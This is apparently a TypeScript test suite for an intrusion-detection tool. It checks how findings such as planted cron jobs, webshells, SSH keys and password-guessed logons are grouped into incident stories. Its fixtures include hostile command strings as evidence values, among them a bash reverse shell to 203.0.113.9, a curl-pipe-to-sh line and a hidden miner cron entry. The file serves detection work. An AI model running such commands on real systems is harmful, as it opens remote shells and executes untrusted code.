import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Finding } from '../core/finding.ts';
import { levels } from '../core/level.ts';
import { entryOf } from './sections.ts';
import { storiesOf, type Story } from './stories.ts';

let serial = 0;
const at = Date.parse('2026-11-20T03:12:00Z');
const minute = 60_000;
function sign(more: Partial<Finding> & { value?: string }): Finding {
  const { value, ...rest } = more;
  return { id: `f${String(++serial).padStart(4, '0')}`, check: 'cron', kind: 'intrusion', level: 'high', title: { zh: '甲', en: 'a' }, refs: [], evidence: value === undefined ? [] : [{ what: { zh: '行', en: 'line' }, value }], ...rest };
}
const ids = (stories: readonly Story[]): string[] => stories.map(({ findings }) => findings.map(({ id }) => id).sort().join(' ')).sort();

describe('findings become one story', () => {
  it('by the file that a job runs, a process is started from and another check looked at', () => {
    const job = sign({ path: '/etc/cron.d/zz', value: '* * * * * root /tmp/.x/kd -o pool' });
    const file = sign({ check: 'setuid', path: '/tmp/.x/kd' });
    const process = sign({ check: 'process', pid: 812, value: 'exe /tmp/.x/kd (deleted)' });
    const other = sign({ path: '/usr/local/bin/helper' });
    const stories = storiesOf([job, other, file, process]);
    expect(ids(stories)).toEqual(ids([{ findings: [job, file, process] }, { findings: [other] }] as unknown as Story[]));
    expect(stories.find(({ findings }) => findings.length === 3)!.shared).toEqual(['path:/tmp/.x/kd']);
  });

  it('by process, account, address and what a check links itself', () => {
    const a = sign({ pid: 7 });
    const b = sign({ value: '/proc/7/fd/3 leads to a socket', user: 'deploy' });
    const c = sign({ path: '/home/deploy/.ssh/authorized_keys', user: 'deploy', kind: 'weakness', level: 'low' });
    const d = sign({ address: '203.0.113.9', links: ['pid:7'] });
    const e = sign({ value: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' });
    expect(storiesOf([a, b, c, d, e])).toHaveLength(1);
  });

  it('by minutes, when they are signs, with the earliest as the entry and how it came', () => {
    const web = sign({ path: '/var/www/html/up/x.php', check: 'webshell', time: at });
    const cron = sign({ path: '/etc/cron.d/a', time: at + 2 * minute, level: 'critical' });
    const key = sign({ path: '/root/.ssh/authorized_keys', time: at + 6 * minute });
    const later = sign({ path: '/etc/cron.d/b', time: at + 30 * minute });
    const stories = storiesOf([key, later, cron, web]);
    expect(stories).toHaveLength(2);
    expect(stories[0]).toMatchObject({ intrusion: true, level: 'critical', began: at, ended: at + 6 * minute, entry: { way: 'web', time: at }, shared: ['time'] });
    expect(stories[0]!.entry!.finding).toBe(web);
  });

  it('takes a way that is known soon after over a first sign that tells nothing', () => {
    const [story] = storiesOf([sign({ path: '/tmp/a', time: at }), sign({ path: '/var/www/html/x.php', check: 'webshell', time: at + minute })]);
    expect(story!.entry).toMatchObject({ time: at, way: 'web' });
  });

  it('does not take a key that was planted after a first sign that tells nothing for how somebody came in', () => {
    const [story] = storiesOf([sign({ path: '/tmp/a', time: at }), sign({ path: '/root/.ssh/authorized_keys', time: at + minute })]);
    expect(story!.entry).toMatchObject({ time: at, way: 'maybe-ssh' });
    expect(entryOf(story!)?.en).toBe('how somebody came in is not known, perhaps by SSH; first sign: a');
  });
});

describe('a log-on by a guessed password', () => {
  const logon = (time: number, user = 'root') => sign({ check: 'guessed-logon', user, address: '203.0.113.66', time, title: { zh: '猜', en: '203.0.113.66 guessed' }, value: 'Accepted password for root from 203.0.113.66' });
  const hour = 60 * minute;

  it('leads the story of what was done after it, hours later too', () => {
    const [guessed, key, job] = [logon(at), sign({ path: '/root/.ssh/authorized_keys', time: at + 3 * hour }), sign({ path: '/etc/cron.d/a', time: at + 3 * hour + minute })];
    for (const all of [[guessed, key, job], [job, key, guessed]]) {
      const stories = storiesOf(all);
      expect(stories).toHaveLength(1);
      expect(stories[0]).toMatchObject({ began: at, entry: { way: 'guessed', time: at, finding: guessed } });
      expect(entryOf(stories[0]!)?.en).toBe('likely way in: by SSH, password guessed; first sign: 203.0.113.66 guessed');
    }
  });

  it('leads it also where a first sign before it tells nothing', () => {
    const guessed = logon(at + 5 * minute);
    expect(storiesOf([sign({ path: '/tmp/a', time: at }), guessed, sign({ path: '/root/.ssh/authorized_keys', time: at + 8 * minute })])).toMatchObject([{ began: at, entry: { way: 'guessed', time: at + 5 * minute, finding: guessed } }]);
  });

  it('is apart from what came days later, by another way, or with a restore, and no notice leads', () => {
    expect(storiesOf([logon(at), sign({ path: '/etc/cron.d/a', time: at + 30 * hour })])).toHaveLength(2);
    expect(storiesOf([logon(at), sign({ path: '/var/www/html/x.php', check: 'webshell', time: at + 2 * hour })])).toHaveLength(2);
    expect(storiesOf([logon(at), sign({ path: '/etc/cron.d/a', time: at + 2 * hour })], [{ from: at + 2 * hour, to: at + 3 * hour }])).toHaveLength(2);
    expect(storiesOf([{ ...logon(at), kind: 'notice', level: 'low' }, sign({ path: '/etc/cron.d/a', time: at + 2 * hour })])).toHaveLength(2);
    // A web trojan that was there first is the way in.
    expect(storiesOf([sign({ path: '/var/www/html/x.php', check: 'webshell', time: at }), logon(at + 5 * minute)])[0]!.entry).toMatchObject({ way: 'web', time: at });
  });
});

describe('one visit', () => {
  it('has pauses of somebody who types', () => {
    const key = sign({ path: '/root/.ssh/authorized_keys', time: at });
    const module = sign({ path: '/usr/lib/security/pam_unix.so', time: at + 6 * minute });
    const history = sign({ path: '/root/.bash_history', time: at + 18 * minute, level: 'medium' });
    expect(storiesOf([history, module, key])).toMatchObject([{ entry: { way: 'ssh', time: at }, findings: { length: 3 } }]);
  });

  it('of hundreds of web trojans is told with what else was done then, where the tree was walked', () => {
    const trojans = Array.from({ length: 200 }, (_, i) => sign({ check: 'webshell', path: `/var/www/html/d${i}/x.php`, time: at + i * 1000 }));
    const job = sign({ path: '/etc/cron.d/zz', time: at + 5 * minute });
    const [story] = storiesOf([job, ...trojans], []);
    expect(story).toMatchObject({ findings: { length: 2 }, entry: { way: 'web', finding: trojans[0] } });
    expect(story!.findings).toContain(job);
    // Without a walk nobody knows whether the whole disk changed then.
    expect(storiesOf([job, ...trojans])).toHaveLength(201);
  });

  it('comes before one that is as bad and was later', () => {
    const weeks = 30 * 24 * 60 * minute;
    const stories = storiesOf([sign({ path: '/a', time: at + weeks, level: 'critical' }), sign({ path: '/b', time: at + weeks + minute }), sign({ path: '/z', time: at, level: 'critical' }), sign({ path: '/y', time: at + minute })]);
    expect(stories.map(({ began }) => began)).toEqual([at, at + weeks]);
  });
});

describe('findings stay apart', () => {
  it('of minutes in which much of the tree changed', () => {
    const restored = [sign({ path: '/etc/cron.d/zz', time: at }), sign({ path: '/root/.ssh/authorized_keys', time: at + minute }), sign({ path: '/var/www/html/x.php', time: at + 2 * minute })];
    const after = [sign({ path: '/etc/ld.so.preload', time: at + 5 * minute }), sign({ path: '/usr/local/lib/x.so', time: at + 7 * minute })];
    expect(storiesOf([...restored, ...after], [{ from: at, to: at + 5 * minute }]).map(({ findings }) => findings.length)).toEqual([1, 1, 1, 2]);
    expect(storiesOf([...restored, ...after], [])).toHaveLength(1);
  });

  it.each([
    ['times of cron jobs', '*/5 * * * * root /opt/a/one', '*/5 * * * * root /opt/b/two'],
    ['comments', '$a = 1; // ours', 'print 2; // yours'],
    ['closing tags', '<script>a()</script>', '<script>b()</script>'],
    ['what follows a glob or something worked out', 'rm -f /home/*/x $(pwd)/x ${A}/x', 'ls /srv/*/x `pwd`/y [a-z]/x'],
    ['expressions', 'preg_replace("/.*/e", $x)', 'preg_match("/.+/", $y)'],
  ])('that have in common only %s', (_, one, other) => expect(storiesOf([sign({ value: one }), sign({ value: other })])).toHaveLength(2));

  it('in a chain of names without end', () => {
    const chain = Array.from({ length: 5000 }, (_, i) => sign({ path: `/srv/f${i}`, value: `/srv/f${i + 1}` }));
    for (const { findings } of storiesOf(chain)) expect(findings.length).toBeLessThanOrEqual(300);
  });

  it('that name a program, a folder or a table everyone names', () => {
    const jobs = ['/usr/bin/curl -s x', '/bin/sh /tmp', 'cat /etc/passwd', 'sleep 1 > /dev/null', 'http://x.example/a/b', 'ping 127.0.0.1'].flatMap((value) => [sign({ value }), sign({ value })]);
    expect(storiesOf(jobs)).toHaveLength(jobs.length);
  });

  it('but not from a sign about that program itself', () => {
    expect(storiesOf([sign({ path: '/usr/bin/curl', check: 'packages' }), sign({ value: '/usr/bin/curl x | sh' })])).toHaveLength(1);
  });

  it('when a weak line and an evil line stand in one table', () => {
    expect(storiesOf([sign({ path: '/etc/passwd' }), sign({ path: '/etc/passwd', kind: 'weakness' }), sign({ path: '/etc/passwd', kind: 'weakness' })])).toHaveLength(2);
  });

  it('that an upgrade touched in the same minutes', () => {
    const upgraded = Array.from({ length: 25 }, (_, i) => sign({ kind: 'notice', level: 'low', path: `/usr/lib/n${i}`, time: at + i }));
    const signs = [sign({ path: '/a/1', time: at }), sign({ path: '/b/2', time: at + 1000 })];
    expect(storiesOf([...signs, ...upgraded])).toHaveLength(27);
    expect(storiesOf(signs)).toHaveLength(1);
    const copied = Array.from({ length: 500 }, (_, i) => sign({ path: `/data/f${i}`, time: at }));
    expect(storiesOf(copied)).toHaveLength(500);
  });

  it('that root or half of all share', () => {
    expect(storiesOf([sign({ user: 'root' }), sign({ user: 'root' })])).toHaveLength(2);
    const many = Array.from({ length: 100 }, () => sign({ user: 'www-data' }));
    expect(storiesOf(many)).toHaveLength(100);
  });

  it('in a chain of hours', () => {
    const chain = Array.from({ length: 40 }, (_, i) => sign({ path: `/x/f${i}`, time: at + i * 4 * minute }));
    for (const { began, ended } of storiesOf(chain)) expect(ended! - began!).toBeLessThanOrEqual(60 * minute);
  });
});

const anyFinding = fc.record({
  check: fc.constantFrom('cron', 'guessed-logon'),
  kind: fc.constantFrom('intrusion' as const, 'weakness' as const, 'notice' as const), level: fc.constantFrom(...levels),
  path: fc.option(fc.constantFrom('/tmp/a', '/tmp/b', '/etc/passwd', '/usr/bin/x', '/proc/3/exe'), { nil: undefined }), pid: fc.option(fc.integer({ min: 1, max: 5 }), { nil: undefined }),
  user: fc.option(fc.constantFrom('root', 'lin', 'www-data'), { nil: undefined }), time: fc.option(fc.integer({ min: 0, max: 40 }).map((n) => at + n * minute), { nil: undefined }),
  value: fc.option(fc.oneof(fc.string(), fc.constantFrom('runs /tmp/a', '/usr/bin/x 203.0.113.9', '/proc/3/maps')), { nil: undefined }),
}).map((one) => sign(one as Partial<Finding>));

describe('whatever the findings', () => {
  it('each is in exactly one story, and their order changes nothing', () => {
    fc.assert(fc.property(fc.array(anyFinding, { maxLength: 60 }).chain((all) => fc.tuple(fc.constant(all), fc.shuffledSubarray(all, { minLength: all.length }))), ([all, shuffled]) => {
      const stories = storiesOf(all);
      expect(stories.flatMap(({ findings }) => findings.map(({ id }) => id)).sort()).toEqual(all.map(({ id }) => id).sort());
      expect(storiesOf(shuffled)).toEqual(stories);
    }), { numRuns: 200 });
  });

  it('names of any script are names', () => expect(storiesOf([sign({ path: '/srv/\u6728\u9a6c' }), sign({ value: 'sh "/srv/\u6728\u9a6c"' })])).toHaveLength(1));

  it('twenty thousand with hostile evidence come to an end', () => {
    const many = Array.from({ length: 20_000 }, (_, i) => sign({ path: `/srv/d${i % 300}/f${i}`, value: `${'/a'.repeat(500)} ${'1.'.repeat(200)} /opt/x${i % 900}`, time: at + i * 700, kind: i % 3 === 0 ? 'intrusion' : 'weakness' }));
    expect(storiesOf(many).reduce((sum, { findings }) => sum + findings.length, 0)).toBe(20_000);
  });
});
